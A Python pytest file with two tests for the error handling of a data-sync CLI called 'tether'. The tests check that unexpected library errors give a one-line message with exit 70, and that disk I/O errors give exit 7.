def test_an_unexpected_error_is_one_line_and_exit_70(
    ws: WorkspaceFixture, tether, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A bug or an unmapped library error: its first line and the --debug hint, not the pages of
    debug text some libraries put in their messages (obstore does)."""

    def broken(*_args: object, **_kwargs: object) -> None:
        raise RuntimeError("Generic S3 error: HTTP error\n\nDebug source:\nGeneric {\n    store: S3,\n}")

    monkeypatch.setattr(sync, "diff", broken)
    r = tether("diff", "ns/ds", "store", cwd=ws.root)
    assert r.exit_code == ExitCode.INTERNAL == 70
    assert "internal error: RuntimeError: Generic S3 error: HTTP error" in r.stderr
    assert "Debug source" not in r.output and "--debug" in r.stderr


def test_a_bare_io_error_is_exit_7_not_a_safety_refusal(
    ws: WorkspaceFixture, tether, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An operating-system error no tether class names (EIO from a failing disk): a rerun may
    succeed, so it is exit 7 like a failed file, not 3 (refused for safety) or 2 (usage)."""

    def failing_disk(*_args: object, **_kwargs: object) -> None:
        raise OSError(errno.EIO, "Input/output error", str(ws.root / "data/ns/ds/a.txt"))

    monkeypatch.setattr(sync, "diff", failing_disk)
    r = tether("diff", "ns/ds", "store", cwd=ws.root)
    assert r.exit_code == ExitCode.TRANSFER_FAILED == 7, r.output
    assert "Input/output error" in r.stderr and "a.txt" in r.stderr
    assert "Traceback" not in r.output
